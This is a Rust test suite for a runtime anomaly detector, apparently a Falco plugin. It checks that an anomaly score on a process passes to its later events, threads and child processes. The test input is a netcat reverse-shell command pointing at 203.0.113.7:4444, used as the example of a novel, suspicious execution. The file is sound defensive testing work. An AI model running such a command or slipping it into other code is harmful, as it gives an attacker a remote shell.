//! A verdict belongs to the process: later events, threads and children carry it.

use crate::support::{Host, clone, config, connect, exec};

fn score_at(host: &mut Host, tid: i64) -> Option<String> {
    let event = host.event(connect(tid));
    host.field(&event, "anomaly.score")
}

const NOVEL: &str = "/usr/bin/nc -e /bin/sh 203.0.113.7 4444";

#[test]
fn later_events_of_the_process_carry_it_with_its_reason() {
    let (_directory, mut host) = Host::learned();
    let execution = host.event(exec(200, 1, NOVEL).event());
    let own = host.field(&execution, "anomaly.score");
    let later = host.event(connect(200));
    assert_eq!(host.field(&later, "anomaly.score"), own);
    assert!(host.field(&later, "anomaly.reason").is_some());
    assert_eq!(host.field(&later, "anomaly.first"), Some("true".into()));
    // Other processes do not.
    assert_eq!(score_at(&mut host, 139).as_deref(), Some("0.0000"));
    assert_eq!(score_at(&mut host, 1), None, "what was not executed under our eyes has no score");
    assert_eq!(score_at(&mut host, 999_999), None, "nor has what Falco does not know");
}

#[test]
fn threads_and_children_carry_it_until_they_execute_something() {
    let (_directory, mut host) = Host::learned();
    let own = host.score(&exec(200, 1, NOVEL));
    assert!(own.is_some());
    host.event(clone(201, 200, 1));
    host.event(clone(300, 300, 200));
    host.event(clone(301, 301, 300));
    for tid in [201, 300, 301] {
        assert_eq!(score_at(&mut host, tid), own, "{tid}");
    }
    assert_eq!(host.score(&exec(300, 200, "/usr/sbin/nginx -g daemon")), score_at(&mut host, 300));
    assert_ne!(score_at(&mut host, 300), own);
    assert_eq!(score_at(&mut host, 301), own, "its own child executed nothing");
}

#[test]
fn a_thread_that_was_never_heard_of_falls_back_to_its_process() {
    let (_directory, mut host) = Host::learned();
    // The thread is there before its process executes, and nobody knows who forked that: nothing is copied to it.
    host.event(clone(200, 200, 7_777));
    host.event(clone(201, 200, 7_777));
    assert_eq!(score_at(&mut host, 201), None);
    let own = host.score(&exec(200, 1, NOVEL));
    assert_eq!(score_at(&mut host, 201), own);
}

#[test]
fn what_an_anomalous_process_starts_stays_suspicious() {
    let (_directory, mut host) = Host::learned();
    host.event(exec(200, 1, NOVEL).event());
    host.event(clone(201, 201, 200));
    let child = host.event(exec(201, 200, "/usr/sbin/nginx -g daemon").event());
    let smoothed = host.field(&child, "anomaly.smoothed").expect("a number");
    assert!(smoothed.as_str() >= "0.6000", "{smoothed}");
}

#[test]
fn each_execution_is_judged_once_whatever_asks_for_it() {
    let (directory, mut first) = Host::learned();
    let mut second = Host::new(&config(directory.path(), 20));
    let event = exec(200, 1, NOVEL);
    let (learned, judged) = (first.metric("scored"), first.metric("judged_from_event"));
    let one = first.score(&event);
    let other = second.score(&event);
    assert_eq!(one, other, "both inspectors have the one verdict");
    assert_eq!(first.metric("scored"), learned + 1);
    assert_eq!(first.metric("judged_from_event"), judged + 1);
    // Executed again it is another execution.
    let again = crate::support::Exec { time: event.time + 50_000_000, ..event };
    first.event(again.event());
    assert_eq!(first.metric("scored"), learned + 2);
}
